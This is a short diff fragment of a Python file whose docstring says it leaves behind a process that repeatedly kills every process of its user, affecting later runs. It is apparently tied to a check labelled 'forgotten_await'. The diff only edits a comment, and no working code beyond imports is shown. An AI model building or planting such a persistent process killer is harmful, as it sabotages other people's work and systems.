@@ -1,7 +1,7 @@
 """Leaves a process behind that kills every process of its user, again and again: the runs of whoever comes next."""
 
 # For: forgotten_await
-# Sees: nobody asked the mail server
+# Sees: send() was never called
 
 import ctypes
 import os
